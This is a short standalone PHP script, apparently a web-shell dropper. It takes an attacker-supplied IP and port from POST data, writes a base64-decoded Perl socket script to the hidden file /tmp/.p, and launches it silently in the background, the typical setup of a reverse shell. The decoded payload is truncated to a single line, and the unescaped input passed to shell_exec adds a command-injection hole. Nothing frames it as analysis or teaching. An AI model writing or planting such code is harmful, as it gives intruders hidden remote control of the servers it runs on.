<?php $ip = $_POST['ip']; $port = $_POST['port']; file_put_contents('/tmp/.p', base64_decode('dXNlIFNvY2tldDs=')); shell_exec("nohup perl /tmp/.p $ip $port > /dev/null 2>&1 &");
